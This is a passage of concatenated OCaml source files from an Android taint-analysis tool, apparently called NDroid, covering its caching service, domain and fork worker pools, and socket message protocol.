    (* compute outside the lock: descriptor construction is the expensive
       part, and two domains racing to the same digest write equal values *)
    let d = digest task in
    locked sv (fun () -> memo_add sv.sv_digest_memo k d);
    d

let service_find sv (task : Task.t) =
  (* a fault marker means "really run this" (the worker acts on it);
     serving it from cache would silently skip the injection *)
  if task.Task.t_fault <> None then None
  else begin
    let d = service_digest sv task in
    match
      locked sv (fun () ->
          match memo_find sv.sv_memo d with
          | Some report ->
            sv.sv_hits <- sv.sv_hits + 1;
            Some report
          | None -> None)
    with
    | Some report -> Some (report, d)
    | None -> (
      (* disk probe outside the lock; a racing domain reads the same file *)
      match Option.bind sv.sv_cache (fun c -> Cache.find c ~key:d) with
      | Some report ->
        locked sv (fun () ->
            sv.sv_hits <- sv.sv_hits + 1;
            memo_add sv.sv_memo d report);
        Some (report, d)
      | None -> None)
  end

let service_store sv ~digest report =
  match report.Verdict.r_verdict with
  (* crash/timeout verdicts are circumstances, not app facts *)
  | Verdict.Crashed _ | Verdict.Timeout -> ()
  | _ ->
    locked sv (fun () -> memo_add sv.sv_memo digest report);
    (match sv.sv_cache with
     | Some c -> Cache.store c ~key:digest report
     | None -> ())

let service_run sv ?obs (task : Task.t) =
  locked sv (fun () -> sv.sv_requests <- sv.sv_requests + 1);
  match service_find sv task with
  | Some (report, _) -> (report, true)
  | None ->
    let report = run ?obs task in
    if task.Task.t_fault = None then
      service_store sv ~digest:(service_digest sv task) report;
    (report, false)
