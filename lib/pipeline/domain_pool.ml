module Verdict = Ndroid_report.Verdict
module Metrics = Ndroid_obs.Metrics
module Ring = Ndroid_obs.Ring
module Stream = Ndroid_obs.Stream

type completion = {
  dc_ticket : int;
  dc_report : Verdict.report;
  dc_seconds : float;
  dc_events : Stream.event list;
  dc_dropped : int;
  dc_lost : int;
}

type t = {
  dp_service : Analysis.service;
  dp_lock : Mutex.t;
  dp_work : Condition.t;  (* signaled on submit and shutdown *)
  dp_done : Condition.t;  (* signaled on every completion *)
  dp_queue : (int * Task.t) Shard_queue.t;
  mutable dp_next_shard : int;  (* round-robin deal over worker shards *)
  mutable dp_uncollected : int;  (* completions since the last take *)
  mutable dp_completed : completion list;  (* newest first *)
  mutable dp_inflight : int;  (* submitted, not yet in dp_completed *)
  mutable dp_stop : bool;
  mutable dp_trace : int option;  (* streaming throttle window, if tapped *)
  dp_notify_r : Unix.file_descr;
  dp_notify_w : Unix.file_descr;
  dp_metrics : Metrics.t option array;  (* one registry per worker *)
  mutable dp_workers : unit Domain.t array;
}

(* One byte down the self-pipe per completion batch: a select()-driven
   caller (the daemon) learns of domain completions the same way it
   learns of worker frames, without polling.  Both ends are nonblocking;
   a full pipe just means a wakeup is already pending. *)
let notify t =
  try ignore (Unix.write t.dp_notify_w (Bytes.unsafe_of_string "!") 0 1)
  with
  | Unix.Unix_error ((Unix.EAGAIN | Unix.EWOULDBLOCK | Unix.EPIPE), _, _) -> ()

let drain_notify t =
  let buf = Bytes.create 64 in
  let rec go () =
    match Unix.read t.dp_notify_r buf 0 64 with
    | n when n > 0 -> go ()
    | _ -> ()
    | exception Unix.Unix_error ((Unix.EAGAIN | Unix.EWOULDBLOCK), _, _) -> ()
  in
  go ()

(* The worker body.  Identical in shape to {!Worker.loop} — per-task obs
   ring, analyze, metrics — but the report returns by reference through
   shared memory: no fork, no JSON, no pipe, no parse.  Fault markers are
   not acted on (a domain cannot crash or be killed in isolation); the
   {!Engine.Auto} policy routes fault-bearing work to the forked engine
   instead. *)
let worker_loop t shard =
  (* one obs ring and one metrics registry for the worker's whole life —
     a fresh 4096-slot ring per task is most of the forked engine's
     per-task cost, and per-task registries would make the collector
     merge thousands of tables while the workers still compute *)
  let ring = Ring.create ~capacity:4096 () in
  let m = Ring.metrics ring in
  Mutex.lock t.dp_lock;
  t.dp_metrics.(shard) <- Some m;
  Mutex.unlock t.dp_lock;
  let rec next () =
    Mutex.lock t.dp_lock;
    let rec claim () =
      if t.dp_stop then begin
        Mutex.unlock t.dp_lock;
        None
      end
      else
        match Shard_queue.pop t.dp_queue ~shard with
        | Some job ->
          (* the streaming window travels with the claim, read under the
             lock: a task keeps the setting it started with *)
          let trace = t.dp_trace in
          Mutex.unlock t.dp_lock;
          Some (job, trace)
        | None ->
          Condition.wait t.dp_work t.dp_lock;
          claim ()
    in
    match claim () with
    | None -> ()
    | Some ((ticket, task), trace) ->
      (* the ring outlives the task (see above) but its event window must
         not: provenance reconstruction reads the live window, and stale
         events would graft one app's trace onto the next app's flows *)
      Ring.clear ring;
      let ow0 = Ring.overwritten ring in
      let t0 = Unix.gettimeofday () in
      let report, _cached = Analysis.service_run t.dp_service ~obs:ring task in
      let dt = Unix.gettimeofday () -. t0 in
      Metrics.incr (Metrics.counter m "tasks");
      Metrics.observe (Metrics.histogram m "task_seconds") dt;
      Metrics.observe_int
        (Metrics.histogram m "task_bytecodes")
        (Worker.meta_int "bytecodes" report);
      Metrics.add
        (Metrics.counter m "ring_overwritten")
        (Ring.overwritten ring - ow0);
      (* a fresh tap per task: the cleared ring restarted the seq clock,
         and per-task throttle state is what the forked engine's
         per-task worker has — the differential test depends on the two
         engines suppressing the same events *)
      let events, dropped, lost =
        match trace with
        | None -> ([], 0, 0)
        | Some window ->
          let tap = Stream.tap ~window () in
          let events = Stream.drain tap ring in
          Metrics.add
            (Metrics.counter m "trace_events")
            (List.length events);
          Metrics.add (Metrics.counter m "trace_dropped")
            (Stream.tap_dropped tap);
          (events, Stream.tap_dropped tap, Stream.tap_missed tap)
      in
      Mutex.lock t.dp_lock;
      t.dp_completed <-
        { dc_ticket = ticket; dc_report = report; dc_seconds = dt;
          dc_events = events; dc_dropped = dropped; dc_lost = lost }
        :: t.dp_completed;
      t.dp_inflight <- t.dp_inflight - 1;
      t.dp_uncollected <- t.dp_uncollected + 1;
      (* wake the collector in batches, not per task: a waiter that stirs
         on every completion contends for the one CPU the workers are
         using (and drags the stop-the-world minor collector with it).
         The drain path is unaffected — the self-pipe below marks every
         completion for select()-driven callers. *)
      if t.dp_inflight = 0 || t.dp_uncollected >= 64 then
        Condition.broadcast t.dp_done;
      Mutex.unlock t.dp_lock;
      notify t;
      next ()
  in
  next ()

let create ?(domains = 1) ~service () =
  (* cap at the runtime's recommendation (≈ cores): forked workers win by
     overlapping blocked time, but domains share one runtime — every
     domain beyond the core count multiplies stop-the-world minor-GC
     synchronization instead of adding throughput *)
  let domains =
    max 1 (min domains (Domain.recommended_domain_count ()))
  in
  let notify_r, notify_w = Unix.pipe () in
  Unix.set_nonblock notify_r;
  Unix.set_nonblock notify_w;
  let t =
    { dp_service = service;
      dp_lock = Mutex.create ();
      dp_work = Condition.create ();
      dp_done = Condition.create ();
      dp_queue = Shard_queue.create_empty ~shards:domains ();
      dp_next_shard = 0;
      dp_uncollected = 0;
      dp_completed = [];
      dp_inflight = 0;
      dp_stop = false;
      dp_trace = None;
      dp_notify_r = notify_r;
      dp_notify_w = notify_w;
      dp_metrics = Array.make domains None;
      dp_workers = [||] }
  in
  t.dp_workers <-
    Array.init domains (fun i -> Domain.spawn (fun () -> worker_loop t i));
  t

let domains t = Array.length t.dp_workers
let notify_fd t = t.dp_notify_r

let set_trace t window =
  Mutex.lock t.dp_lock;
  t.dp_trace <- window;
  Mutex.unlock t.dp_lock

let submit t ~ticket task =
  Mutex.lock t.dp_lock;
  if t.dp_stop then begin
    Mutex.unlock t.dp_lock;
    invalid_arg "Domain_pool.submit: pool is shut down"
  end;
  let shard = t.dp_next_shard in
  t.dp_next_shard <- (shard + 1) mod Array.length t.dp_workers;
  ignore (Shard_queue.push t.dp_queue ~shard (ticket, task));
  t.dp_inflight <- t.dp_inflight + 1;
  Condition.signal t.dp_work;
  Mutex.unlock t.dp_lock

let take_completed t =
  let cs = List.rev t.dp_completed in
  t.dp_completed <- [];
  t.dp_uncollected <- 0;
  cs

let drain t =
  drain_notify t;
  Mutex.lock t.dp_lock;
  let cs = take_completed t in
  Mutex.unlock t.dp_lock;
  cs

let wait t =
  Mutex.lock t.dp_lock;
  while t.dp_completed = [] && t.dp_inflight > 0 do
    Condition.wait t.dp_done t.dp_lock
  done;
  let cs = take_completed t in
  Mutex.unlock t.dp_lock;
  drain_notify t;
  cs

let steals t =
  Mutex.lock t.dp_lock;
  let n = Shard_queue.steals t.dp_queue in
  Mutex.unlock t.dp_lock;
  n

let metrics t =
  Mutex.lock t.dp_lock;
  let ms = Array.to_list t.dp_metrics |> List.filter_map Fun.id in
  Mutex.unlock t.dp_lock;
  ms

let shutdown t =
  Mutex.lock t.dp_lock;
  t.dp_stop <- true;
  Condition.broadcast t.dp_work;
  Mutex.unlock t.dp_lock;
  Array.iter Domain.join t.dp_workers;
  t.dp_workers <- [||];
  (try Unix.close t.dp_notify_r with Unix.Unix_error _ -> ());
  try Unix.close t.dp_notify_w with Unix.Unix_error _ -> ()
