module Json = Ndroid_report.Json
module Verdict = Ndroid_report.Verdict
module Stream = Ndroid_obs.Stream

type submit = {
  sb_req : int;
  sb_subject : Task.subject;
  sb_mode : Task.mode;
  sb_deadline : float option;
  sb_fault : Task.fault option;
  sb_trace : bool;
}

type subscribe = {
  su_cats : string list;
  su_app : string option;
  su_window : int;
}

type trace = {
  tc_req : int;
  tc_app : string;
  tc_events : Stream.event list;
  tc_dropped : int;
  tc_lost : int;
}

type message =
  | Submit of submit
  | Subscribe of subscribe
  | Verdict of { vd_req : int; vd_cached : bool; vd_seconds : float;
                 vd_report : Verdict.report }
  | Progress of { pg_req : int; pg_state : string; pg_depth : int }
  | Trace of trace
  | Shed of { sh_req : int; sh_reason : string }
  | Error of string

let tag_submit = 'S'
let tag_subscribe = 'F'
let tag_verdict = 'V'
let tag_progress = 'P'
let tag_trace = 'T'
let tag_shed = 'X'
let tag_error = 'E'

let to_tag_payload = function
  | Submit s ->
    ( tag_submit,
      Json.Obj
        [ ("req", Json.Int s.sb_req);
          ("subject", Task.subject_to_json s.sb_subject);
          ("mode", Json.Str (Task.mode_name s.sb_mode));
          ("deadline",
           match s.sb_deadline with
           | Some d -> Json.Float d
           | None -> Json.Null);
          ("fault", Task.fault_to_json s.sb_fault);
          ("trace", Json.Bool s.sb_trace) ] )
  | Subscribe s ->
    ( tag_subscribe,
      Json.Obj
        [ ("cats", Json.List (List.map (fun c -> Json.Str c) s.su_cats));
          ("app",
           match s.su_app with Some re -> Json.Str re | None -> Json.Null);
          ("window", Json.Int s.su_window) ] )
  | Trace t ->
    ( tag_trace,
      Json.Obj
        [ ("req", Json.Int t.tc_req);
          ("app", Json.Str t.tc_app);
          ("events", Json.List (List.map Stream.event_json t.tc_events));
          ("dropped", Json.Int t.tc_dropped);
          ("lost", Json.Int t.tc_lost) ] )
  | Verdict v ->
    ( tag_verdict,
      Json.Obj
        [ ("req", Json.Int v.vd_req);
          ("cached", Json.Bool v.vd_cached);
          ("seconds", Json.Float v.vd_seconds);
          ("report", Verdict.report_to_json v.vd_report) ] )
  | Progress p ->
    ( tag_progress,
      Json.Obj
        [ ("req", Json.Int p.pg_req);
          ("state", Json.Str p.pg_state);
          ("depth", Json.Int p.pg_depth) ] )
  | Shed s ->
    ( tag_shed,
      Json.Obj
        [ ("req", Json.Int s.sh_req); ("reason", Json.Str s.sh_reason) ] )
  | Error e -> (tag_error, Json.Obj [ ("error", Json.Str e) ])

let to_frame m =
  let tag, payload = to_tag_payload m in
  Wire.encode_tagged ~tag (Json.to_string payload)

let write fd m =
  let tag, payload = to_tag_payload m in
  Wire.write_tagged fd ~tag (Json.to_string payload)

let ( let* ) = Result.bind

let req_int name j =
  match Option.bind (Json.member name j) Json.int with
  | Some i -> Ok i
  | None -> Error (Printf.sprintf "message is missing int field %S" name)

let req_str name j =
  match Option.bind (Json.member name j) Json.str with
  | Some s -> Ok s
  | None -> Error (Printf.sprintf "message is missing string field %S" name)

let decode_submit j =
  let* req = req_int "req" j in
  let* subject =
    match Json.member "subject" j with
    | None -> Error "submit is missing its \"subject\""
    | Some s -> Task.subject_of_json s
  in
  let* mode =
    let* m = req_str "mode" j in
    match Task.mode_of_name m with
    | Some m -> Ok m
    | None -> Error (Printf.sprintf "unknown submit mode %S" m)
  in
  let deadline =
    match Json.member "deadline" j with
    | Some (Json.Float f) -> Some f
    | Some (Json.Int i) -> Some (float_of_int i)
    | _ -> None
  in
  let* fault = Task.fault_of_json (Json.member "fault" j) in
  let trace =
    Option.value ~default:false
      (Option.bind (Json.member "trace" j) Json.bool)
  in
  Ok
    (Submit
       { sb_req = req; sb_subject = subject; sb_mode = mode;
         sb_deadline = deadline; sb_fault = fault; sb_trace = trace })

let decode_subscribe j =
  let cats =
    match Option.bind (Json.member "cats" j) Json.list with
    | None -> []
    | Some l -> List.filter_map Json.str l
  in
  let app = Option.bind (Json.member "app" j) Json.str in
  let window =
    Option.value ~default:0 (Option.bind (Json.member "window" j) Json.int)
  in
  Ok (Subscribe { su_cats = cats; su_app = app; su_window = window })

let decode_trace j =
  let* req = req_int "req" j in
  let* app = req_str "app" j in
  let* events =
    match Option.bind (Json.member "events" j) Json.list with
    | None -> Error "trace is missing its \"events\""
    | Some l ->
      List.fold_left
        (fun acc ej ->
          let* evs = acc in
          let* ev = Stream.event_of_json ej in
          Ok (ev :: evs))
        (Ok []) l
      |> Result.map List.rev
  in
  let dropped =
    Option.value ~default:0 (Option.bind (Json.member "dropped" j) Json.int)
  in
  let lost =
    Option.value ~default:0 (Option.bind (Json.member "lost" j) Json.int)
  in
  Ok
    (Trace
       { tc_req = req; tc_app = app; tc_events = events;
         tc_dropped = dropped; tc_lost = lost })

let decode_verdict j =
  let* req = req_int "req" j in
  let cached =
    Option.value ~default:false
      (Option.bind (Json.member "cached" j) Json.bool)
  in
  let seconds =
    match Json.member "seconds" j with
    | Some (Json.Float f) -> f
    | Some (Json.Int i) -> float_of_int i
    | _ -> 0.0
  in
  let* report =
    match Json.member "report" j with
    | None -> Error "verdict is missing its \"report\""
    | Some r -> Verdict.report_of_json r
  in
  Ok
    (Verdict
       { vd_req = req; vd_cached = cached; vd_seconds = seconds;
         vd_report = report })

let decode_progress j =
  let* req = req_int "req" j in
  let* state = req_str "state" j in
  let depth =
    Option.value ~default:0 (Option.bind (Json.member "depth" j) Json.int)
  in
  Ok (Progress { pg_req = req; pg_state = state; pg_depth = depth })

let decode_shed j =
  let* req = req_int "req" j in
  let* reason = req_str "reason" j in
  Ok (Shed { sh_req = req; sh_reason = reason })

let decode_error j =
  let* e = req_str "error" j in
  Ok (Error e)

let of_frame frame =
  let* tag, payload = Wire.parse_tagged frame in
  let* j = Json.of_string payload in
  if tag = tag_submit then decode_submit j
  else if tag = tag_subscribe then decode_subscribe j
  else if tag = tag_verdict then decode_verdict j
  else if tag = tag_progress then decode_progress j
  else if tag = tag_trace then decode_trace j
  else if tag = tag_shed then decode_shed j
  else if tag = tag_error then decode_error j
  else Error (Printf.sprintf "unknown message tag %C" tag)

(* ---- the client side ---- *)

module Client = struct
  type t = { c_fd : Unix.file_descr }

  let connect ?retry_for path =
    let deadline =
      match retry_for with
      | Some s -> Unix.gettimeofday () +. s
      | None -> neg_infinity
    in
    let rec attempt () =
      let fd = Unix.socket Unix.PF_UNIX Unix.SOCK_STREAM 0 in
      match Unix.connect fd (Unix.ADDR_UNIX path) with
      | () -> Ok { c_fd = fd }
      | exception Unix.Unix_error ((Unix.ENOENT | Unix.ECONNREFUSED), _, _)
        when Unix.gettimeofday () < deadline ->
        Unix.close fd;
        Unix.sleepf 0.02;
        attempt ()
      | exception Unix.Unix_error (e, _, _) ->
        Unix.close fd;
        Error
          (Printf.sprintf "cannot connect to %s: %s" path
             (Unix.error_message e))
    in
    attempt ()

  let fd t = t.c_fd
  let send t m = write t.c_fd m

  let recv t =
    match Wire.read_frame t.c_fd with
    | None -> Stdlib.Error "server closed the connection"
    | Some frame -> of_frame frame

  let close t = try Unix.close t.c_fd with Unix.Unix_error _ -> ()
end
