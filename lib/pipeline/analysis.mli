(** The unified analysis facade.

    One entry point drives either analyzer — the static JNI supergraph
    ({!Ndroid_static.Analyzer}), a full dynamic NDroid run
    ({!Ndroid_apps.Harness} + {!Ndroid_core.Ndroid}), or both — over
    either kind of subject, and always yields the one report shape
    ({!Ndroid_report.Verdict.report}).  The pool's workers call {!run};
    so do the in-process paths (`ndroid analyze --jobs 1`, tests). *)

val version : string
(** Analyzer-version component of every cache key.  Bump whenever a change
    to the static or dynamic analyzers can alter verdicts, so stale cached
    results from older binaries can never be served. *)

val feature_key : string
(** The dynamic path's feature switches (superblocks, native summaries,
    focus gating), folded into every cache key so flipping one invalidates
    exactly the results it could change. *)

val enable_summary_cache : Cache.t -> unit
(** Persist native taint summaries as raw entries in [cache], keyed
    ["summary-<library digest>"].  Call once before running tasks; the
    pool does this automatically when configured with a cache. *)

val run : ?obs:Ndroid_obs.Ring.t -> Task.t -> Ndroid_report.Verdict.report
(** Analyze one task.  Never raises: an analyzer exception becomes a
    [Crashed] verdict carrying the exception text.  Ignores the task's
    fault marker (faults are acted on by the worker process, not here).
    [obs] observes any dynamic run: the device records into it, flagged
    flows gain provenance from it, and the execution counters are mirrored
    into its metrics registry. *)

val digest : Task.t -> string
(** Cache key: hex MD5 over the app's content (artifact bytes for bundled
    apps, the generator-independent content descriptor for market apps),
    the analysis mode, {!version} and {!feature_key}.  Two tasks with
    equal digests would produce equal reports. *)
