(** The unified analysis facade.

    One entry point drives either analyzer — the static JNI supergraph
    ({!Ndroid_static.Analyzer}), a full dynamic NDroid run
    ({!Ndroid_apps.Harness} + {!Ndroid_core.Ndroid}), or both — over
    either kind of subject, and always yields the one report shape
    ({!Ndroid_report.Verdict.report}).  The pool's workers call {!run};
    so do the in-process paths (`ndroid analyze --jobs 1`, tests). *)

val version : string
(** Analyzer-version component of every cache key.  Bump whenever a change
    to the static or dynamic analyzers can alter verdicts, so stale cached
    results from older binaries can never be served. *)

val feature_key : string
(** The dynamic path's feature switches (superblocks, native summaries,
    focus gating), folded into every cache key so flipping one invalidates
    exactly the results it could change. *)

val enable_summary_cache : Cache.t -> unit
(** Persist native taint summaries as raw entries in [cache], keyed
    ["summary-<library digest>"].  Call once before running tasks; the
    pool does this automatically when configured with a cache. *)

val run : ?obs:Ndroid_obs.Ring.t -> Task.t -> Ndroid_report.Verdict.report
(** Analyze one task.  Never raises: an analyzer exception becomes a
    [Crashed] verdict carrying the exception text.  Ignores the task's
    fault marker (faults are acted on by the worker process, not here).
    [obs] observes any dynamic run: the device records into it, flagged
    flows gain provenance from it, and the execution counters are mirrored
    into its metrics registry. *)

val digest : Task.t -> string
(** Cache key: hex MD5 over the app's content (artifact bytes for bundled
    apps, the generator-independent content descriptor for market apps),
    the analysis mode, {!version} and {!feature_key}.  Two tasks with
    equal digests would produce equal reports. *)

(** {1 The request-oriented facade}

    One [service] value owns the answer-one-request path — digest
    (memoized per subject+mode), in-memory warm layer, on-disk cache,
    analyzer, store — so the `ndroid serve` daemon, the batch pool's
    cache pass and [Pool.run_inline] share exactly one definition of
    "hit" and "cacheable".  A service is single-process state: the warm
    layer is what a long-lived daemon accumulates across requests.

    A service is domain-safe: one mutex guards the memo tables and
    counters, held only across table probes — digesting, analyzing and
    disk I/O all run unlocked — so the {!Domain_pool} engine's workers
    share one warm layer without serializing on it.  Both memo tables
    are bounded ([capacity] entries each) with second-chance eviction,
    so a long-lived daemon converges on its hottest answers instead of
    growing without limit. *)

type service

val service : ?cache:Cache.t -> ?capacity:int -> unit -> service
(** Also installs the native-summary persistence hooks on [cache]
    ({!enable_summary_cache}), so create the service before forking any
    workers.  [capacity] bounds each memo table (default 65536). *)

val service_run :
  service -> ?obs:Ndroid_obs.Ring.t -> Task.t ->
  Ndroid_report.Verdict.report * bool
(** Answer one request, from the warm layer / cache when possible
    ([true] = served from cache).  Tasks carrying a fault marker are
    never cache-served and never stored — a fault means "really run
    this" — though [service_run] itself still ignores the marker (it is
    acted on by worker processes, see {!Worker}).  Crashed/Timeout
    reports are never stored. *)

val service_find :
  service -> Task.t -> (Ndroid_report.Verdict.report * string) option
(** The probe alone: the cached report and its digest, warm layer first,
    then disk (promoting the entry into the warm layer).  [None] for
    fault-marked tasks.  Does not count a request. *)

val service_store : service -> digest:string -> Ndroid_report.Verdict.report -> unit
(** Store a computed report under its digest (warm layer + disk);
    Crashed/Timeout are dropped. *)

val service_digest : service -> Task.t -> string
(** {!digest}, memoized per subject+mode. *)

val service_requests : service -> int
val service_hits : service -> int
(** Requests answered through {!service_run} and how many of those hit
    the warm layer or disk cache. *)

val service_evictions : service -> int
(** Entries evicted from the two memo tables (second-chance) since the
    service was created. *)

val service_warm_entries : service -> int
(** Reports currently held in the warm layer — bounded by [capacity]. *)
