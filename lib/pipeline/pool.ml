module Json = Ndroid_report.Json
module Verdict = Ndroid_report.Verdict
module Metrics = Ndroid_obs.Metrics

type config = {
  c_jobs : int;
  c_timeout : float option;
  c_cache : Cache.t option;
  c_kill_worker_after : int option;
  c_progress : (done_:int -> total:int -> unit) option;
  c_engine : Engine.t;
}

let config ?(jobs = 1) ?timeout ?cache ?kill_worker_after ?progress
    ?(engine = Engine.Fork) () =
  { c_jobs = max 1 jobs; c_timeout = timeout; c_cache = cache;
    c_kill_worker_after = kill_worker_after; c_progress = progress;
    c_engine = engine }

type stats = {
  s_total : int;
  s_engine : string;
  s_from_workers : int;
  s_cache_hits : int;
  s_crashed : int;
  s_timeouts : int;
  s_respawns : int;
  s_steals : int;
  s_shed : int;
  s_injected_kills : int;
  s_evictions : int;
  s_wall : float;
  s_cache_pass : float;
  s_digest : float;
  s_fork : float;
  s_wire : float;
  s_collect : float;
  s_analyze_cpu : float;
  s_bytecodes : int;
  s_jni_crossings : int;
  s_focused_methods : int;
  s_skipped_bytecodes : int;
  s_ring_overwritten : int;
  s_metrics : Json.t;
}

let meta_int = Worker.meta_int

let counters_of_reports reports =
  Array.fold_left
    (fun (b, j, fm, sk) r ->
      ( b + meta_int "bytecodes" r,
        j + meta_int "jni_crossings" r,
        fm + meta_int "focused_methods" r,
        sk + meta_int "skipped_bytecodes" r ))
    (0, 0, 0, 0) reports

let now () = Unix.gettimeofday ()

(* The forked worker side lives in {!Worker.loop} — shared with the
   `ndroid serve` daemon; the in-process side lives in {!Domain_pool}. *)

(* ---------------------------------------------------------- parent side -- *)

type slot = {
  sl_shard : int;
  mutable sl_pid : int;
  mutable sl_task_w : Unix.file_descr;
  mutable sl_result_r : Unix.file_descr;
  mutable sl_reader : Wire.reader;
  mutable sl_inflight : Task.t option;
  mutable sl_deadline : float;  (* infinity = none *)
  mutable sl_started : float;  (* dispatch time of the in-flight task *)
  mutable sl_alive : bool;
}

let status_message = function
  | Unix.WEXITED n -> Printf.sprintf "worker exited with status %d" n
  | Unix.WSIGNALED n when n = Sys.sigkill -> "worker killed by SIGKILL"
  | Unix.WSIGNALED n when n = Sys.sigsegv -> "worker killed by SIGSEGV"
  | Unix.WSIGNALED n -> Printf.sprintf "worker killed by signal %d" n
  | Unix.WSTOPPED n -> Printf.sprintf "worker stopped by signal %d" n

let validate_ids tasks =
  List.iteri
    (fun i (t : Task.t) ->
      if t.Task.t_id <> i then
        invalid_arg
          (Printf.sprintf
             "Pool.run: task at position %d carries id %d (ids must be dense \
              and in order)"
             i t.Task.t_id))
    tasks

let dummy_report =
  { Verdict.r_app = "?"; r_analysis = "?";
    r_verdict = Verdict.Crashed "result never recorded"; r_meta = [] }

let run cfg tasks =
  validate_ids tasks;
  (* created before forking, so every worker inherits the summary
     persistence hooks and the cache pass itself can answer summary
     probes *)
  let service = Analysis.service ?cache:cfg.c_cache () in
  let t_start = now () in
  let total = List.length tasks in
  let results = Array.make total dummy_report in
  let resolved = Array.make total false in
  let n_done = ref 0 in
  let from_workers = ref 0 in
  let crashed = ref 0 in
  let timeouts = ref 0 in
  let respawns = ref 0 in
  let injected_kills = ref 0 in
  let steals = ref 0 in
  let analyze_cpu = ref 0.0 in
  let fork_time = ref 0.0 in
  let digest_time = ref 0.0 in
  (* the fork engine's tax, measured: serializing each task to its Wire
     frame, parsing each result frame back, and re-absorbing the worker's
     metrics registry from JSON.  Identically zero under the domain
     engine — reports return by reference. *)
  let wire_time = ref 0.0 in
  (* sweep-wide metrics: parent-side counters plus every worker registry
     merged as its results arrive *)
  let metrics = Metrics.create () in
  let mcount name n = Metrics.add (Metrics.counter metrics name) n in
  let mobserve name v = Metrics.observe (Metrics.histogram metrics name) v in
  let progress () =
    match cfg.c_progress with
    | Some f -> f ~done_:!n_done ~total
    | None -> ()
  in
  (* phase 1: answer unchanged apps through the service facade (warm
     layer + disk cache) without dispatching — the progress callback
     fires for these exactly as it does for worker results, so done_/total
     is monotone and complete whatever mix of hits and misses a sweep is *)
  let t_cache0 = now () in
  let digests = Array.make total None in
  let pending =
    match cfg.c_cache with
    | None -> tasks
    | Some _ ->
      List.filter
        (fun (task : Task.t) ->
          (* digest first, timed, so the key derivation cost is
             attributed to its own phase; the probe below hits the memo *)
          let t_d0 = now () in
          let d = Analysis.service_digest service task in
          digest_time := !digest_time +. (now () -. t_d0);
          match Analysis.service_find service task with
          | Some (report, _) ->
            results.(task.Task.t_id) <- report;
            resolved.(task.Task.t_id) <- true;
            incr n_done;
            progress ();
            false
          | None ->
            digests.(task.Task.t_id) <- Some d;
            true)
        tasks
  in
  let cache_pass = now () -. t_cache0 in
  let cache_hits = !n_done in
  mcount "cache_hits" cache_hits;
  mcount "cache_misses" (total - cache_hits);
  let record_resolved ?(store = true) id report =
    if not resolved.(id) then begin
      resolved.(id) <- true;
      results.(id) <- report;
      incr n_done;
      (if store then
         match digests.(id) with
         | Some key -> Analysis.service_store service ~digest:key report
         | None -> ());
      progress ()
    end
  in
  let engine =
    Engine.resolve cfg.c_engine
      ~needs_isolation:
        (cfg.c_timeout <> None
        || cfg.c_kill_worker_after <> None
        || List.exists (fun (t : Task.t) -> t.Task.t_fault <> None) pending)
  in
  let t_collect0 = now () in
  (if pending <> [] then
     match engine with
     | Engine.Auto -> assert false  (* Engine.resolve never returns Auto *)
     | Engine.Domains ->
       (* the in-process engine: domains share [service] directly, so a
          completion is a report by reference — nothing to parse, nothing
          to re-store ([Analysis.service_run] stored it already).  Fault
          markers and timeouts are not enforceable here; [Engine.Auto]
          never routes such work to this branch. *)
       let jobs = min cfg.c_jobs (max 1 (List.length pending)) in
       let pool = Domain_pool.create ~domains:jobs ~service () in
       List.iter
         (fun (t : Task.t) -> Domain_pool.submit pool ~ticket:t.Task.t_id t)
         pending;
       while !n_done < total do
         List.iter
           (fun (c : Domain_pool.completion) ->
             analyze_cpu := !analyze_cpu +. c.Domain_pool.dc_seconds;
             incr from_workers;
             record_resolved ~store:false c.Domain_pool.dc_ticket
               c.Domain_pool.dc_report)
           (Domain_pool.wait pool)
       done;
       (* everything is resolved, so the workers are idle: their
          lifetime registries are stable and merge once per worker *)
       List.iter (Metrics.merge metrics) (Domain_pool.metrics pool);
       steals := Domain_pool.steals pool;
       mcount "domains" (Domain_pool.domains pool);
       Domain_pool.shutdown pool
     | Engine.Fork ->
       let jobs = min cfg.c_jobs (max 1 (List.length pending)) in
       let queue = Shard_queue.create ~shards:jobs pending in
       let prev_sigpipe = Sys.signal Sys.sigpipe Sys.Signal_ignore in
       let slots = Array.make jobs None in
       let live_fds () =
         Array.to_list slots
         |> List.concat_map (function
              | Some sl when sl.sl_alive -> [ sl.sl_task_w; sl.sl_result_r ]
              | _ -> [])
       in
       let spawn shard =
         let t0 = now () in
         let task_r, task_w = Unix.pipe () in
         let result_r, result_w = Unix.pipe () in
         let inherited = live_fds () in
         match Unix.fork () with
         | 0 ->
           (* the child must hold no descriptor of any sibling worker, or
              the parent would never see that sibling's EOF when it dies *)
           List.iter
             (fun fd -> try Unix.close fd with Unix.Unix_error _ -> ())
             inherited;
           Unix.close task_w;
           Unix.close result_r;
           Worker.loop task_r result_w;
           assert false
         | pid ->
           Unix.close task_r;
           Unix.close result_w;
           fork_time := !fork_time +. (now () -. t0);
           { sl_shard = shard; sl_pid = pid; sl_task_w = task_w;
             sl_result_r = result_r; sl_reader = Wire.create_reader ();
             sl_inflight = None; sl_deadline = infinity; sl_started = 0.0;
             sl_alive = true }
       in
       for i = 0 to jobs - 1 do
         slots.(i) <- Some (spawn i)
       done;
       let bury sl =
         sl.sl_alive <- false;
         (try Unix.close sl.sl_task_w with Unix.Unix_error _ -> ());
         (try Unix.close sl.sl_result_r with Unix.Unix_error _ -> ());
         (try ignore (Unix.waitpid [] sl.sl_pid) with Unix.Unix_error _ -> ())
       in
       let reap_status sl =
         sl.sl_alive <- false;
         (try Unix.close sl.sl_task_w with Unix.Unix_error _ -> ());
         (try Unix.close sl.sl_result_r with Unix.Unix_error _ -> ());
         match Unix.waitpid [] sl.sl_pid with
         | _, status -> status_message status
         | exception Unix.Unix_error _ -> "worker vanished"
       in
       let respawn_if_needed shard =
         if Shard_queue.remaining queue > 0 then begin
           slots.(shard) <- Some (spawn shard);
           incr respawns
         end
         else slots.(shard) <- None
       in
       let dispatch sl =
         match Shard_queue.pop queue ~shard:sl.sl_shard with
         | None -> ()
         | Some task -> (
           sl.sl_inflight <- Some task;
           sl.sl_started <- now ();
           sl.sl_deadline <-
             (match cfg.c_timeout with
              | Some t -> now () +. t
              | None -> infinity);
           let t_w0 = now () in
           let payload = Json.to_string (Task.to_json task) in
           match Wire.write_frame sl.sl_task_w payload with
           | () -> wire_time := !wire_time +. (now () -. t_w0)
           | exception Unix.Unix_error _ ->
             (* the worker is already dead; the EOF handler below will
                turn the in-flight task into a Crashed verdict and
                respawn *)
             wire_time := !wire_time +. (now () -. t_w0))
       in
       let inject_kill_if_due () =
         match cfg.c_kill_worker_after with
         | Some n when !from_workers >= n && !injected_kills = 0 ->
           let victim = ref None in
           Array.iter
